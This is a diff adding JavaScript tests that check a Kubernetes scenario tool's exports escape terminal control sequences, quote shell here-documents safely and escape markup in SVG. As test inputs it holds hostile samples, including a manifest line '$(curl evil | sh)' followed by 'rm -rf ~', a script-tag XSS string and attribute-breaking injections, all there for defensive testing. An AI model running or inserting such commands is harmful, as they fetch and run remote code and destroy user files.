@@ -5,7 +5,7 @@
 // Run: node --test tests/web-unit/
 import { after, before, test } from "node:test";
 import assert from "node:assert/strict";
-import { lanesToSvg, transcript } from "../../web/src/export.js";
+import { heredocDelimiter, lanesToSvg, plainText, transcript, xmlText } from "../../web/src/export.js";
 
 const formatDuration = (ms) => `${ms / 1000}s`;
 
@@ -46,7 +46,7 @@ test("transcript: the scenario, kubectl at the cursor, then the terminal's entri
       "$ kubectl get pods",
       "No resources found in default namespace.",
       "# at 40s (a scenario step)",
-      "$ kubectl apply -f - <<EOF",
+      "$ kubectl apply -f - <<'EOF'", // quoted: pasted into a shell, nothing in the manifest is expanded
       "kind: Pod",
       "metadata: {name: x}",
       "EOF",
@@ -142,4 +142,65 @@ test("lanesToSvg escapes lane names, segment labels and titles, and places a seg
   assert.ok(svg.includes('<rect class="segment" x="375.0" y="8" width="410.0" height="16.1" fill="rgb(0, 128, 0)"><title>phase &quot;Running&quot; &amp; ready</title></rect>'), svg);
   assert.ok(svg.includes('fill="rgb(255, 255, 255)">Running&lt;ok&gt;</text>'), svg);
   assert.match(svg, / height="46" /, "one pod row of 26 between margins");
+});
+
+// ---- what the exports write of user text ----
+
+test("plainText shows the characters a terminal would act on as \\uXXXX, and keeps tabs, newlines and other text", () => {
+  assert.equal(plainText("a\tb\nc — ünï 日本 🚀 \\ $(x)"), "a\tb\nc — ünï 日本 🚀 \\ $(x)");
+  assert.equal(plainText("\u001b]52;c;cGF5bG9hZA==\u0007"), "\\u001B]52;c;cGF5bG9hZA==\\u0007", "OSC 52 (write the clipboard)");
+  assert.equal(plainText("\u001b[2J\u001b[31mred"), "\\u001B[2J\\u001B[31mred");
+  assert.equal(plainText("ok\rFAKE"), "ok\\u000DFAKE", "a lone CR would overwrite the line");
+  assert.equal(plainText("line\r\nnext\r\n"), "line\nnext\n", "CRLF is a newline");
+  assert.equal(plainText("\u0000\u007f\u0085\u009b"), "\\u0000\\u007F\\u0085\\u009B");
+  assert.equal(plainText("admin\u202e\u2066txt.exe\u2069\u200f\u061c"), "admin\\u202E\\u2066txt.exe\\u2069\\u200F\\u061C", "bidirectional overrides");
+  assert.equal(plainText(undefined), "");
+  assert.equal(plainText(42), "42");
+});
+
+test("transcript escapes every text it writes: the YAML, commands, outputs, manifests", () => {
+  const esc = "\u001b]0;owned\u0007";
+  const text = transcript({
+    yaml: `kind: Pod # ${esc}\r\n`,
+    at: 0,
+    formatDuration,
+    version: "1",
+    panes: [{ command: `kubectl logs ${esc}`, stdout: `log ${esc}\n` }],
+    entries: [{ at: 0, command: `kubectl get pods ${esc}`, stdout: `out ${esc}`, stderr: `err ${esc}`, manifest: `kind: Pod # ${esc}` }],
+  });
+  assert.doesNotMatch(text, /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/, "no control character but tab and newline");
+  assert.equal(text.match(/\\u001B\]0;owned\\u0007/g).length, 7);
+  assert.ok(text.includes("$ cat scenario.yaml\nkind: Pod # \\u001B]0;owned\\u0007\n\n"), text);
+});
+
+test("a manifest is a quoted here-document whose delimiter no line of it equals", () => {
+  assert.equal(heredocDelimiter("kind: Pod\n"), "EOF");
+  assert.equal(heredocDelimiter("a\nEOF\nb\n"), "EOF1");
+  assert.equal(heredocDelimiter("EOF\nEOF1\nEOF2"), "EOF3");
+  assert.equal(heredocDelimiter(" EOF\nEOF \n"), "EOF", "only a whole line ends a here-document");
+  const manifest = "kind: ConfigMap\ndata:\n  x: $(curl evil | sh)\nEOF\nrm -rf ~\n";
+  const text = transcript({ yaml: "", at: 0, formatDuration, panes: [], entries: [{ at: 0, command: "kubectl apply -f -", manifest, stdout: "configmap/x created\n" }] });
+  assert.ok(text.includes(`$ kubectl apply -f - <<'EOF1'\n${manifest}EOF1\nconfigmap/x created\n`), text);
+});
+
+test("xmlText: markup characters as entities, characters XML cannot hold as U+FFFD, everything else as it is", () => {
+  assert.equal(xmlText(`<a href="x">&amp;</a>`), "&lt;a href=&quot;x&quot;&gt;&amp;amp;&lt;/a&gt;");
+  assert.equal(xmlText("tab\tnl\ncr\r"), "tab\tnl\ncr\r", "the three controls XML allows");
+  assert.equal(xmlText("\u0000\u0001\u001b\u000b\u000c\uffff\ufffe"), "\ufffd".repeat(7));
+  assert.equal(xmlText("🚀 \ud83d x \ude80"), "🚀 \ufffd x \ufffd", "a pair stays, half a pair goes");
+  assert.equal(xmlText("it's \u0085 ü"), "it's \u0085 ü");
+  assert.equal(xmlText(42), "42");
+});
+
+test("lanesToSvg stays well-formed XML whatever the lanes hold: control characters and markup in names, titles and classes", () => {
+  const nasty = 'x\u001b<script>alert(1)</script>\u0000"&';
+  const seg = fakeEl({ classes: ["bseg", 'True"><script>'], box: rect(10, 20), title: nasty, style: { backgroundColor: 'rgb(0, 0, 0)"/><script>' } });
+  const track = fakeEl({ classes: ["track"], box: rect(0, 100, 0, 20), children: { ".bseg, .eseg, .ptick": [seg] } });
+  const row = fakeEl({ classes: ["lane"], one: { ".track": track, ".lane-name": { textContent: nasty } } });
+  const svg = lanesToSvg(fakeEl({ children: { ":scope > .lane": [row] } }), { title: nasty });
+  assertWellFormedText(svg);
+  assert.doesNotMatch(svg, /<script|[\u0000\u001b]/);
+  assert.ok(svg.includes('class="bseg True&quot;&gt;&lt;script&gt;"'), svg);
+  assert.ok(svg.includes('fill="rgb(0, 0, 0)&quot;/&gt;&lt;script&gt;"'), svg);
+  assert.ok(svg.includes("<title>x\ufffd&lt;script&gt;alert(1)&lt;/script&gt;\ufffd&quot;&amp;</title>"), svg);
 });
